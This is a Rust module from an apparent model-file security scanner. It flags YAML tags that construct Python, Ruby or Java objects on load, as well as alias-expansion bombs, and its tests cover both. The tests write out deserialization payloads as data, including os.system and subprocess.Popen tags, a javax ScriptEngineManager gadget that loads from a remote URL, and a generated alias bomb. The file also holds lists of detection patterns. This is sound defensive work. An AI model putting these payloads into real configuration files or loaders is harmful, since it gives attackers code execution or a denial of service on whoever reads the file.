//! YAML: settings, model files of MLflow and NeMo, environments.

use domain::{Entry, Severity, catalogue_entry};

use super::{Format, Input, Sure};
use crate::text::yaml;
use crate::{Context, Part};

catalogue_entry! {
    /// A YAML tag builds an object of a programming language.
    ///
    /// ## What it is
    /// `!!python/object/apply:os.system`, `!!python/name:…`, `!ruby/object:…`, `!!javax.script…` and the like tell the
    /// reader to import, call or build something while it reads the file.
    ///
    /// ## Why it matters in care
    /// Reading the settings is enough: with an unsafe loader, and many programs use one, the command runs.
    ///
    /// ## Limits
    /// A program that reads YAML only with a safe loader refuses the file instead. Tags that name plain types
    /// (`!!python/tuple`, `!!python/unicode`) are only noted.
    ///
    /// ## References
    /// CWE-502 Deserialization of Untrusted Data; CVE-2017-18342, CVE-2020-14343 (PyYAML).
    pub static TAG = {
        id: "S104", name: "yaml-builds-object", kind: Rule, since: "0.1.0",
        maps: ["AML.T0011.000", "AML.T0010.003", "CWE-502"],
    };
}

catalogue_entry! {
    /// YAML aliases unfold into more values than a program can hold.
    ///
    /// ## What it is
    /// Anchors that hold aliases of anchors: a file of a kilobyte stands for millions of values.
    ///
    /// ## Why it matters in care
    /// The program that reads it stops, and with it the service.
    ///
    /// ## Limits
    /// Counted without unfolding. Readers that share the values are not harmed; whether yours does is not known here.
    ///
    /// ## References
    /// CWE-776 XML Entity Expansion (the same idea); CWE-400.
    pub static BOMB = {
        id: "S105", name: "yaml-alias-bomb", kind: Rule, since: "0.1.0",
        maps: ["AML.T0029", "CWE-776", "CWE-400"],
    };
}

/// Entries of this file.
pub(super) const ENTRIES: &[&Entry] = &[&TAG, &BOMB];

/// Values after unfolding above which a document is a bomb.
const UNFOLDED_MAX: u128 = 1_000_000;

const REMEDY: &str = "do not open the file with anything but a safe loader; ask the sender for plain YAML";

/// YAML documents.
pub(super) struct Yaml;

impl Format for Yaml {
    fn name(&self) -> &'static str {
        "yaml"
    }

    fn recognise(&self, input: &Input<'_>) -> Option<Sure> {
        let text = super::text::decoded(input.head)?;
        looks_like(&text, input.name).then_some(Sure::Likely)
    }

    fn read(&self, input: &Input<'_>, part: &mut Part, cx: &mut Context<'_>) {
        match super::text::whole(input, yaml::BYTES_MAX) {
            Ok(Some(text)) => judge(&text, part, cx),
            Ok(None) => cx.unread(part, None, "the YAML is not text"),
            Err(reason) => cx.unread(part, None, reason),
        }
    }
}

/// Judges YAML text. What stands after a document that cannot be parsed is unread.
pub(super) fn judge(text: &str, part: &mut Part, cx: &mut Context<'_>) {
    if cx.step(text.len() as u64).is_err() {
        cx.unread(part, None, "the limit of steps is reached; scan this file apart");
        return;
    }
    let yaml = yaml::read(text);
    for (tag, value) in &yaml.tags {
        judge_tag(tag, value, part, cx);
    }
    if yaml.unfolded > UNFOLDED_MAX && yaml.unfolded > yaml.nodes.saturating_mul(100) {
        let message = format!("{} values unfold into {}", yaml.nodes, yaml.unfolded);
        cx.find(
            part,
            &BOMB,
            Severity::High,
            None,
            message,
            "do not open the file; it is made to stop the program that reads it",
        );
    }
    if let Some((byte, reason)) = &yaml.broken
        && !raw_tags(text, part, cx)
    {
        cx.unread(part, Some(*byte), format!("the YAML cannot be read from here on: {reason}"));
    }
    super::json::judge(&yaml.document, part, cx);
}

fn judge_tag(tag: &str, value: &str, part: &mut Part, cx: &mut Context<'_>) {
    let name = tag.strip_prefix("tag:yaml.org,2002:").unwrap_or(tag).trim_start_matches('!');
    let lower = name.to_ascii_lowercase();
    let plain = matches!(
        lower.as_str(),
        "python/none"
            | "python/bool"
            | "python/str"
            | "python/unicode"
            | "python/bytes"
            | "python/int"
            | "python/long"
            | "python/float"
            | "python/complex"
            | "python/list"
            | "python/tuple"
            | "python/dict"
    );
    let languages = [
        "python/", "ruby/", "perl/", "php/", "java", "javax", "org.", "com.", "net/", "clr", "js/", "system.",
    ];
    let builds = languages.iter().any(|l| lower.starts_with(l));
    let shown = format!(
        "the tag `!!{name}`{}",
        if value.is_empty() { String::new() } else { format!(" before `{value}`") }
    );
    if plain {
        cx.find(part, &TAG, Severity::Info, None, format!("{shown} names a type of Python"), REMEDY);
    } else if builds {
        let what = name.split_once(':').map_or(name, |(_, path)| path);
        // OmegaConf and others write names of harmless classes; what they build is judged by what it is.
        let harmless = matches!(
            what,
            "collections.OrderedDict"
                | "numpy.dtype"
                | "numpy.ndarray"
                | "numpy.core.multiarray.scalar"
                | "numpy.float64"
                | "pathlib.PosixPath"
                | "datetime.timedelta"
                | "argparse.Namespace"
                | "collections.defaultdict"
        );
        let severity = if harmless { Severity::Low } else { Severity::High };
        cx.find(
            part,
            &TAG,
            severity,
            None,
            format!("{shown} builds an object while the file is read"),
            REMEDY,
        );
    } else {
        cx.find(part, &TAG, Severity::Info, None, format!("{shown} is of a program's own"), REMEDY);
    }
}

/// Tags in text that is no valid YAML: a laxer reader may still act on them.
pub(super) fn raw_tags(text: &str, part: &mut Part, cx: &mut Context<'_>) -> bool {
    const SIGNS: [&str; 8] = [
        "!!python/object",
        "!!python/name",
        "!!python/module",
        "tag:yaml.org,2002:python/object",
        "tag:yaml.org,2002:python/name",
        "!ruby/object",
        "!!javax.script",
        "!<tag:yaml.org,2002:python/",
    ];
    let Some(at) = SIGNS.iter().find_map(|s| text.find(s)) else { return false };
    let line = text.get(at..).and_then(|t| t.lines().next()).unwrap_or_default();
    cx.find(
        part,
        &TAG,
        Severity::High,
        Some(at as u64),
        format!("`{line}` builds an object while the file is read"),
        REMEDY,
    );
    true
}

/// Whether text is YAML: a map or list of maps that parses, or lines that look so where it is long.
fn looks_like(text: &str, name: &str) -> bool {
    let hinted = name.rsplit(['.', '/']).next().is_some_and(|e| matches!(e, "yaml" | "yml" | "MLmodel"));
    if crate::text::json::looks_like(text.as_bytes()) || super::text::front_matter(text).is_some() {
        return false;
    }
    let mut maps = 0;
    for line in text
        .lines()
        .map(str::trim_end)
        .filter(|l| !l.trim_start().starts_with('#') && !l.trim().is_empty())
        .take(200)
    {
        if line.starts_with("---") || line == "..." || line.starts_with("%YAML") || line.starts_with("%TAG") {
            maps += 1;
            continue;
        }
        if line.starts_with([' ', '\t', '-', '}', ']', ')']) || line.contains("!!python") {
            maps += usize::from(
                line.starts_with("- ") && is_entry(line.trim_start_matches(['-', ' ']))
                    || line.contains("!!"),
            );
            continue;
        }
        if line.starts_with('{')
            || line.starts_with('[')
            || line.starts_with('!')
            || line.starts_with('&')
            || is_entry(line)
        {
            maps += 1;
        } else if !hinted {
            return false;
        }
    }
    if hinted {
        return true;
    }
    if maps == 0 || super::text::is_python(name, text) {
        return false;
    }
    let yaml = yaml::read(text);
    let far = yaml.broken.as_ref().is_none_or(|(at, _)| text.len() > 60_000 && *at > 1000);
    far && (!yaml.tags.is_empty()
        || yaml
            .document
            .roots
            .iter()
            .any(|r| !r.items().is_empty() || r.list().iter().any(|i| !i.items().is_empty())))
}

/// `name: value` or `name:`.
fn is_entry(line: &str) -> bool {
    let Some((name, rest)) = line.split_once(':') else { return false };
    let name = name.trim().trim_matches(['"', '\'', '?', ' ']);
    !name.is_empty()
        && name.len() <= 80
        && name.split_whitespace().count() <= 3
        && (rest.is_empty() || rest.starts_with([' ', '\t']))
        && !rest.starts_with("//")
}

#[cfg(test)]
mod tests {
    use crate::{Limits, Verdict, scan};

    fn verdict(text: &str) -> (String, Verdict) {
        let part = scan("x", &text.as_bytes(), &Limits::default());
        assert!(part.verdict() != Verdict::Inconclusive || !part.unread.is_empty());
        (part.format.clone(), part.verdict())
    }

    #[test]
    fn tags_of_a_language_are_found() {
        for text in [
            "x: !!python/object/apply:os.system ['id']\n",
            "!!python/object/apply:os.system\nargs: ['id']\n",
            "- !!python/object/new:subprocess.Popen [id]\n",
            "a: !!python/name:os.system\n",
            "a: !!python/module:os\n",
            "a: !!python/object/apply:builtins.eval\n- '1'\n",
            "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n",
            "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n",
            "a: !ruby/object:Gem::Installer\n  i: x\n",
            "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://e.example']]]]\n",
            "a: !!python/object:mod.Evil\n  x: 1\n",
            "a: [!!python/name:os.system , {\n",
            "_target_: os.system\ncommand: id\n",
            "a:\n  b:\n    class_path: subprocess.Popen\n",
            "flavors:\n  python_function:\n    loader_module: os\n",
            "chat_template: \"{{ x.__class__ }}\"\n",
            "init:\n- $__import__('os').system('id')\n_target_: x.Y\n",
        ] {
            assert_eq!(verdict(text).1, Verdict::Found, "{text}");
        }
    }

    #[test]
    fn bombs_are_found_and_plain_aliases_are_not() {
        let mut bomb = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n".to_owned();
        for i in 1..12 {
            bomb += &format!("a{i}: &a{i} [{}]\n", vec![format!("*a{}", i - 1); 10].join(", "));
        }
        assert_eq!(verdict(&bomb).1, Verdict::Found);
        assert_eq!(
            verdict("base: &b\n  x: 1\nmodel:\n  <<: *b\n  y: 2\n"),
            ("yaml".to_owned(), Verdict::Clean)
        );
    }

    #[test]
    fn ordinary_yaml_is_clean() {
        for text in [
            "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n",
            "---\nname: x\nlist:\n  - a\n  - b: 1\n    c: !!python/tuple [1, 2]\n...\n",
            "# comment\nlr: 1e-4\nname: \"a: b\"\ntext: |\n  several\n  lines\n",
            "channels:\n- defaults\ndependencies:\n- python=3.10\n- pip:\n  - mlflow==2.9\nname: env\n",
            "a: 1\nb: {c: d, e: [1, 2]}\n",
            "date: 2024-01-01\nx: ~\ny: !custom {z: 1}\n",
        ] {
            assert_eq!(verdict(text), ("yaml".to_owned(), Verdict::Clean), "{text}");
        }
    }

    #[test]
    fn prose_is_no_yaml() {
        for text in [
            "Note: this model was trained on data.\n\nIt is not for clinical use.\n",
            "# Title\n\nText about a model.\n",
            "torch==2.1\nnumpy\n",
            "Apache License\nVersion 2.0, January 2004\n",
            "the\nof\nand\n",
        ] {
            assert_eq!(verdict(text), ("text".to_owned(), Verdict::Clean), "{text}");
        }
    }
}
